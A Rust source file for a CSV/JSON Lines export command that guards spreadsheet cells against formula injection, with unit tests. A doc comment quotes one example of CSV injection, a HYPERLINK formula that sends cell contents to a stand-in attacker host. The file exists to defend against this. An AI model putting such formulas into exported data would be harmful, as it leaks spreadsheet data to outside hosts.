//! `export`: stored responses as CSV or JSON Lines, to standard output or a file, streamed a
//! page at a time ([`App::export_responses`]) so that memory does not grow with the export.
//!
//! Both formats carry the same columns, named as in the JSON API (camelCase), and three more
//! from the current trackers ([`crate::app::ExportInsights`]): `mentions`, `citedDomains` and
//! `citations`. JSON Lines gives them as arrays of objects and strings; CSV, where a cell holds
//! one string, in a compact form: `Tracker/Term:count@rank` items joined by `;` (`#n` added
//! when the term is first named in list item n), domains joined by `;`, URLs joined by a space
//! (a URL holds no space). CSV goes
//! through the `csv` crate, which quotes answers full of commas, quotes and line breaks as
//! RFC 4180 says. A CSV cell that a spreadsheet would read as a formula (`=`, `+`, `-`, `@`,
//! tab or CR first) is prefixed with `'` unless `--raw-csv` is given: an answer that says
//! `=HYPERLINK("http://evil.example/?"&A1, "click")` must not run when the file is opened
//! ([`guard_cell`]). JSON Lines is never altered. A file is written under a `.partial` name and renamed once complete, so a
//! failed export never leaves a file that looks whole. A closed pipe (`| head`) ends the
//! export quietly.

use std::collections::HashMap;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;

use anyhow::Context;
use chrono::{DateTime, NaiveDate, Utc};
use serde::Serialize;

use crate::app::{App, ExportInsights, ExportMention};
use crate::app::{ResponseFilter, StoredResponse};
use crate::domain::{BatchKey, ModelId, PromptId};
use crate::insights::Citation;
use crate::schedule::Zone;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportFormat {
    /// Comma-separated values with a header row
    Csv,
    /// One JSON object per line
    Jsonl,
}

/// What to export and where.
#[derive(Debug, clap::Args)]
pub struct ExportArgs {
    /// Output format
    #[arg(long, value_enum, default_value_t = ExportFormat::Csv)]
    pub format: ExportFormat,
    /// Only answers of this batch (YYYY-MM-DD or YYYY-MM-DDTHH:MM)
    #[arg(long)]
    pub batch_key: Option<BatchKey>,
    /// Only answers stored at or after this: a date (YYYY-MM-DD, from its start in TIMEZONE)
    /// or an RFC 3339 time
    #[arg(long, value_name = "DATE")]
    pub from: Option<String>,
    /// Only answers stored before this: a date (YYYY-MM-DD, that whole day included) or an
    /// RFC 3339 time (excluded)
    #[arg(long, value_name = "DATE")]
    pub to: Option<String>,
    /// Only answers to this prompt
    #[arg(long)]
    pub prompt_id: Option<PromptId>,
    /// Only answers of this model
    #[arg(long)]
    pub model_id: Option<ModelId>,
    /// Write to this file instead of standard output
    #[arg(long, short, value_name = "FILE")]
    pub output: Option<PathBuf>,
    /// CSV: write cells exactly as stored, without the `'` that keeps a spreadsheet from
    /// reading a cell starting with = + - @ as a formula
    #[arg(long)]
    pub raw_csv: bool,
}

/// One exported answer. The field order is the CSV column order.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct ExportRow<'a> {
    id: i64,
    job_id: i64,
    prompt_id: PromptId,
    model_id: ModelId,
    /// Empty for a model that was removed since.
    model_name: &'a str,
    batch_key: &'a str,
    run_index: i32,
    /// The version of the prompt answered (SHA-256 of its text) and that text; empty for
    /// answers stored before prompts had versions.
    prompt_version: Option<&'a str>,
    prompt_text: Option<&'a str>,
    text: &'a str,
    prompt_tokens: Option<i64>,
    completion_tokens: Option<i64>,
    total_tokens: Option<i64>,
    cached_tokens: Option<i64>,
    reasoning_tokens: Option<i64>,
    cost_usd: Option<f64>,
    latency_ms: i64,
    served_model: Option<&'a str>,
    finish_reason: Option<&'a str>,
    created_at: DateTime<Utc>,
    mentions: Extra<ExportMention>,
    cited_domains: Extra<String>,
    citations: Extra<Citation>,
}

/// A list column: the items themselves in JSON Lines, one compact string in CSV.
#[derive(Debug, Serialize)]
#[serde(untagged)]
enum Extra<T> {
    Items(Vec<T>),
    Text(String),
}

/// `Tracker/Term:count@rank`, and `#n` when first named in list item n.
fn compact_mention(m: &ExportMention) -> String {
    let mut out = format!("{}/{}:{}@{}", m.tracker, m.term, m.count, m.rank);
    if let Some(position) = m.list_position {
        out.push_str(&format!("#{position}"));
    }
    out
}

/// The CSV header, written even when nothing matches so that readers always find columns.
const COLUMNS: [&str; 23] = [
    "id",
    "jobId",
    "promptId",
    "modelId",
    "modelName",
    "batchKey",
    "runIndex",
    "promptVersion",
    "promptText",
    "text",
    "promptTokens",
    "completionTokens",
    "totalTokens",
    "cachedTokens",
    "reasoningTokens",
    "costUsd",
    "latencyMs",
    "servedModel",
    "finishReason",
    "createdAt",
    "mentions",
    "citedDomains",
    "citations",
];

impl<'a> ExportRow<'a> {
    fn of(
        response: &'a StoredResponse,
        names: &'a HashMap<ModelId, String>,
        insights: &ExportInsights,
        compact: bool,
    ) -> Self {
        let mentions = insights.mentions(response);
        let citations = insights.citations(response);
        let mut domains: Vec<String> = Vec::new();
        for c in &citations {
            if !domains.contains(&c.domain) {
                domains.push(c.domain.clone());
            }
        }
        let (mentions, cited_domains, citations) = if compact {
            (
                Extra::Text(
                    mentions
                        .iter()
                        .map(compact_mention)
                        .collect::<Vec<_>>()
                        .join(";"),
                ),
                Extra::Text(domains.join(";")),
                Extra::Text(
                    citations
                        .iter()
                        .map(|c| c.url.as_str())
                        .collect::<Vec<_>>()
                        .join(" "),
                ),
            )
        } else {
            (
                Extra::Items(mentions),
                Extra::Items(domains),
                Extra::Items(citations),
            )
        };
        ExportRow {
            id: response.id,
            job_id: response.job_id,
            prompt_id: response.prompt_id,
            model_id: response.model_id,
            model_name: names.get(&response.model_id).map_or("", String::as_str),
            batch_key: &response.batch_key,
            run_index: response.run_index,
            prompt_version: response.prompt_version.as_deref(),
            prompt_text: response.prompt_text.as_deref(),
            text: &response.text,
            prompt_tokens: response.prompt_tokens,
            completion_tokens: response.completion_tokens,
            total_tokens: response.total_tokens,
            cached_tokens: response.cached_tokens,
            reasoning_tokens: response.reasoning_tokens,
            cost_usd: response.cost_usd,
            latency_ms: response.latency_ms,
            served_model: response.served_model.as_deref(),
            finish_reason: response.finish_reason.as_deref(),
            created_at: response.created_at,
            mentions,
            cited_domains,
            citations,
        }
    }
}

/// A cell that a spreadsheet would take for a formula, defused with a leading `'` (OWASP's
/// advice for CSV injection); anything else as is. A plain number (`-3`, `1e-5`) stays a
/// number, since that is what the numeric columns hold.
pub fn guard_cell(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    let risky = matches!(
        cell.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    let number = std::str::from_utf8(cell).is_ok_and(|text| {
        text.parse::<f64>().is_ok()
            && text
                .bytes()
                .all(|b| b.is_ascii_digit() || b".+-eE".contains(&b))
    });
    if risky && !number {
        let mut guarded = Vec::with_capacity(cell.len() + 1);
        guarded.push(b'\'');
        guarded.extend_from_slice(cell);
        std::borrow::Cow::Owned(guarded)
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// `row` as CSV with every cell through [`guard_cell`]: the row is serialized into a record
/// first, so that every column, present or future, is guarded alike.
fn write_guarded(writer: &mut csv::Writer<Box<dyn Write>>, row: &ExportRow<'_>) -> csv::Result<()> {
    let mut scratch = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    scratch.serialize(row)?;
    let bytes = scratch
        .into_inner()
        .map_err(|err| csv::Error::from(err.into_error()))?;
    let mut record = csv::ByteRecord::new();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes.as_slice())
        .read_byte_record(&mut record)?;
    writer.write_record(record.iter().map(guard_cell))
}

/// Rows to bytes in the chosen format.
enum Encoder {
    /// With `true`, cells are guarded against formula injection.
    Csv(Box<csv::Writer<Box<dyn Write>>>, bool),
    Jsonl(Box<dyn Write>),
}

impl Encoder {
    fn new(format: ExportFormat, out: Box<dyn Write>, raw_csv: bool) -> io::Result<Self> {
        Ok(match format {
            ExportFormat::Csv => {
                let mut writer = csv::WriterBuilder::new()
                    .has_headers(false)
                    .from_writer(out);
                writer.write_record(COLUMNS).map_err(csv_io)?;
                Encoder::Csv(Box::new(writer), !raw_csv)
            }
            ExportFormat::Jsonl => Encoder::Jsonl(out),
        })
    }

    fn write(&mut self, row: &ExportRow<'_>) -> io::Result<()> {
        match self {
            Encoder::Csv(writer, true) => write_guarded(writer, row).map_err(csv_io),
            Encoder::Csv(writer, false) => writer.serialize(row).map_err(csv_io),
            Encoder::Jsonl(out) => {
                serde_json::to_writer(&mut *out, row)?;
                out.write_all(b"\n")
            }
        }
    }

    fn finish(self) -> io::Result<()> {
        match self {
            Encoder::Csv(mut writer, _) => writer.flush(),
            Encoder::Jsonl(mut out) => out.flush(),
        }
    }
}

fn csv_io(err: csv::Error) -> io::Error {
    match err.into_kind() {
        csv::ErrorKind::Io(err) => err,
        other => io::Error::other(format!("{other:?}")),
    }
}

pub async fn export(app: &App, args: ExportArgs) -> anyhow::Result<ExitCode> {
    let tz = app.config().timezone;
    let created_from = args
        .from
        .as_deref()
        .map(|text| parse_bound(text, tz, false).context("--from"))
        .transpose()?;
    let created_before = args
        .to
        .as_deref()
        .map(|text| parse_bound(text, tz, true).context("--to"))
        .transpose()?;
    if let (Some(from), Some(before)) = (created_from, created_before)
        && from >= before
    {
        anyhow::bail!("--from must be before --to");
    }
    let filter = ResponseFilter {
        prompt_id: args.prompt_id,
        model_id: args.model_id,
        batch_key: args.batch_key.map(String::from),
        job_id: None,
        created_from,
        created_before,
        below_id: None,
    };
    match &args.output {
        None => {
            let out = Box::new(BufWriter::new(io::stdout()));
            match write_all(app, filter, args.format, args.raw_csv, out).await {
                Ok(count) => eprintln!("exported {count} responses"),
                Err(ExportError::Io(err)) if err.kind() == io::ErrorKind::BrokenPipe => {}
                Err(err) => return Err(err.into()),
            }
        }
        Some(path) => {
            let partial = partial_path(path);
            let file = File::create(&partial)
                .with_context(|| format!("cannot create {}", partial.display()))?;
            let out = Box::new(BufWriter::new(file));
            let written = write_all(app, filter, args.format, args.raw_csv, out).await;
            let count = match written {
                Ok(count) => count,
                Err(err) => {
                    let _ = std::fs::remove_file(&partial);
                    return Err(anyhow::Error::from(err).context(path.display().to_string()));
                }
            };
            std::fs::rename(&partial, path).with_context(|| {
                format!("cannot rename {} to {}", partial.display(), path.display())
            })?;
            eprintln!("exported {count} responses to {}", path.display());
        }
    }
    Ok(ExitCode::SUCCESS)
}

#[derive(Debug, thiserror::Error)]
enum ExportError {
    #[error(transparent)]
    App(#[from] crate::app::AppError),
    #[error("cannot write: {0}")]
    Io(#[from] io::Error),
}

/// Streams every matching response into `out`; returns how many were written.
async fn write_all(
    app: &App,
    filter: ResponseFilter,
    format: ExportFormat,
    raw_csv: bool,
    out: Box<dyn Write>,
) -> Result<u64, ExportError> {
    let names = app.model_names().await?;
    let insights = app.export_insights().await?;
    let compact = format == ExportFormat::Csv;
    let mut encoder = Encoder::new(format, out, raw_csv)?;
    let mut export = app.export_responses(filter);
    let mut count = 0;
    while let Some(page) = export.next_page().await? {
        for response in &page {
            encoder.write(&ExportRow::of(response, &names, &insights, compact))?;
            count += 1;
        }
    }
    encoder.finish()?;
    Ok(count)
}

fn partial_path(path: &Path) -> PathBuf {
    let mut name = path.as_os_str().to_owned();
    name.push(".partial");
    PathBuf::from(name)
}

/// A bound of the date range: an RFC 3339 time as given, or a date at the start of that
/// day in `tz` (with `end`, the start of the next day, so that the date is included).
fn parse_bound(text: &str, tz: Zone, end: bool) -> anyhow::Result<DateTime<Utc>> {
    if let Ok(time) = DateTime::parse_from_rfc3339(text) {
        return Ok(time.with_timezone(&Utc));
    }
    let date = NaiveDate::parse_from_str(text, "%Y-%m-%d").map_err(|_| {
        anyhow::anyhow!("'{text}' is neither a date (YYYY-MM-DD) nor an RFC 3339 time")
    })?;
    let date = if end {
        date.succ_opt()
            .ok_or_else(|| anyhow::anyhow!("'{text}' is too far in the future"))?
    } else {
        date
    };
    tz.start_of_day(date)
        .ok_or_else(|| anyhow::anyhow!("'{text}' has no start in {tz}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_header_matches_the_row_fields() {
        let response = StoredResponse {
            id: 1,
            job_id: 2,
            prompt_id: 3,
            model_id: 4,
            batch_key: "2025-10-14".into(),
            run_index: 0,
            text: "a, \"quoted\"\nanswer".into(),
            served_model: None,
            finish_reason: Some("stop".into()),
            prompt_tokens: Some(5),
            completion_tokens: None,
            total_tokens: None,
            cached_tokens: None,
            reasoning_tokens: None,
            cost_usd: Some(0.5),
            latency_ms: 7,
            provider_request_id: None,
            citations: None,
            raw: None,
            created_at: DateTime::from_timestamp(0, 0).expect("epoch"),
            prompt_version: Some("ab12".into()),
            prompt_text: Some("the question".into()),
        };
        let names = HashMap::from([(4, "m".to_owned())]);
        let insights = ExportInsights::new(vec![(
            "CRMs".to_owned(),
            crate::insights::matcher::Matcher::new(&[crate::insights::Term {
                name: "quoted".into(),
                patterns: vec![],
            }])
            .expect("a matcher"),
        )]);
        let mut csv = csv::Writer::from_writer(Vec::new());
        csv.serialize(ExportRow::of(&response, &names, &insights, true))
            .expect("serialize");
        let bytes = csv.into_inner().expect("flush");
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let header: Vec<String> = reader
            .headers()
            .expect("header")
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(header, COLUMNS);
        let record = reader.records().next().expect("a row").expect("valid");
        assert_eq!(&record[7], "ab12");
        assert_eq!(&record[8], "the question");
        assert_eq!(&record[9], "a, \"quoted\"\nanswer");
        assert_eq!(&record[20], "CRMs/quoted:1@1");
        assert_eq!((&record[21], &record[22]), ("", ""));
    }

    #[test]
    fn formula_cells_are_defused_and_numbers_kept() {
        let guard =
            |cell: &str| String::from_utf8(guard_cell(cell.as_bytes()).into_owned()).unwrap();
        for formula in [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "=HYPERLINK(\"x\")",
            "-",
        ] {
            assert_eq!(guard(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in [
            "",
            "plain",
            "1+1",
            "a=b",
            "-3",
            "-0.5",
            "+7",
            "1e-5",
            "-2.5E3",
            "'=already",
        ] {
            assert_eq!(guard(kept), kept, "{kept:?}");
        }
    }

    #[test]
    fn dates_cover_whole_days_in_the_time_zone() {
        let paris = Zone::named("Europe/Paris").expect("zone");
        let from = parse_bound("2025-10-14", paris, false).expect("date");
        let to = parse_bound("2025-10-14", paris, true).expect("date");
        assert_eq!(from.to_rfc3339(), "2025-10-13T22:00:00+00:00");
        assert_eq!(to.to_rfc3339(), "2025-10-14T22:00:00+00:00");
        let exact = parse_bound("2025-10-14T08:30:00+02:00", paris, true).expect("time");
        assert_eq!(exact.to_rfc3339(), "2025-10-14T06:30:00+00:00");
        assert!(parse_bound("14/10/2025", paris, false).is_err());
    }
}
